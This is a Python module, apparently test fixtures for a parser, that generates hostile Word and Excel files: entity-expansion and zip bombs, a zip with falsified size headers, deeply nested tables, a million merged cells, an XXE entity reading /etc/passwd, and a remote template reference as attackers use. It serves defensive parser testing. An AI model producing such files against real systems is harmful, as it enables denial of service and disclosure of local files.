"""Word files and workbooks that want to hurt their reader."""

import io
import struct
import zipfile
from typing import Final

_W: Final = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_X: Final = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_RELATIONSHIPS: Final = "http://schemas.openxmlformats.org/package/2006/relationships"
_OFFICE: Final = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_MEGABYTE: Final = 1 << 20


def word(body: str | bytes, head: str = "", **parts: str) -> bytes:
    """A Word file with this body; keys name parts beside it, with ``_`` for a slash."""
    inner = body.encode() if isinstance(body, str) else body
    start = f'<?xml version="1.0"?>{head}<w:document xmlns:w="{_W}"><w:body>'.encode()
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/document.xml", start + inner + b"</w:body></w:document>")
        for name, content in parts.items():
            archive.writestr(f"word/{name.replace('__', '/')}", content)
    return target.getvalue()


def paragraph(text: str) -> str:
    """A paragraph of a Word file."""
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def three_million_paragraphs() -> bytes:
    """Three million paragraphs in a few hundred kilobytes."""
    letters = b"".join(b"<w:p><w:r><w:t>%d</w:t></w:r></w:p>" % (number % 97) for number in range(10_000))
    return word(letters * 300)


def three_million_empty_paragraphs() -> bytes:
    """The same, nearly all as short as can be, and just varied enough not to look like a bomb."""
    some = b"".join(b"<w:p w:rsidR='%05d'/>" % number + b"<w:p/>" * 59 for number in range(50_000))
    return word(some)


def billion_laughs() -> bytes:
    """Entities that stand for ten of the next."""
    entities = "".join(f'<!ENTITY l{level} "{f"&l{level - 1};" * 10}">' for level in range(1, 10))
    return word(paragraph("&l9;"), f'<!DOCTYPE d [<!ENTITY l0 "ha">{entities}]>')


def quadratic_entity() -> bytes:
    """One long entity, called many times."""
    return word(paragraph("&a;" * 50_000), f'<!DOCTYPE d [<!ENTITY a "{"a" * 50_000}">]>')


def external_entity() -> bytes:
    """An entity that is a file of this machine."""
    return word(paragraph("&x;"), '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>')


def ratio_bomb() -> bytes:
    """A body of 300 MB of blanks."""
    return word(b" " * (300 * _MEGABYTE))


def lying_sizes() -> bytes:
    """A body of 300 MB that the archive announces as ten bytes."""
    content = ratio_bomb()
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        size = archive.infolist()[0].file_size
    return content.replace(struct.pack("<I", size), struct.pack("<I", 10))


def hundred_thousand_parts() -> bytes:
    """Ten to the fifth parts."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        archive.writestr("word/document.xml", word(paragraph("x")))
        for number in range(100_000):
            archive.writestr(f"word/{number}", b"")
    return target.getvalue()


def deep_elements() -> bytes:
    """Tables inside tables, five thousand deep."""
    depth = 5_000
    return word("<w:tbl><w:tr><w:tc>" * depth + paragraph("x") + "</w:tc></w:tr></w:tbl>" * depth)


def external_template() -> bytes:
    """A template that is somewhere else, as an attacker would have Word fetch it."""
    relations = (
        f'<Relationships xmlns="{_RELATIONSHIPS}"><Relationship Id="r1" Type="{_OFFICE}/attachedTemplate"'
        ' Target="https://example.org/template.dotm" TargetMode="External"/></Relationships>'
    )
    settings = f'<w:settings xmlns:w="{_W}"/>'
    parts = {"settings.xml": settings, "_rels__settings.xml.rels": relations}
    return word(paragraph("Contrat de prestations"), **parts)


def workbook(sheet: str) -> bytes:
    """An Excel file of one sheet."""
    target = io.BytesIO()
    relation = f'<Relationship Id="r1" Type="{_OFFICE}/worksheet" Target="worksheets/sheet1.xml"/>'
    sheets = f'<sheets><sheet name="BPU" sheetId="1" r:id="r1" xmlns:r="{_OFFICE}"/></sheets>'
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/workbook.xml", f'<workbook xmlns="{_X}">{sheets}</workbook>')
        archive.writestr(
            "xl/_rels/workbook.xml.rels",
            f'<Relationships xmlns="{_RELATIONSHIPS}">{relation}</Relationships>',
        )
        archive.writestr("xl/worksheets/sheet1.xml", f'<worksheet xmlns="{_X}">{sheet}</worksheet>')
    return target.getvalue()


def million_merged_cells() -> bytes:
    """A sheet of one filled cell and 10⁶ merged areas."""
    cell = '<sheetData><row r="1"><c r="A1"><v>1</v></c></row></sheetData>'
    areas = "".join(f'<mergeCell ref="A{row}:C{row + row % 7}"/>' for row in range(1, 1_000_001))
    return workbook(f"{cell}<mergeCells>{areas}</mergeCells>")
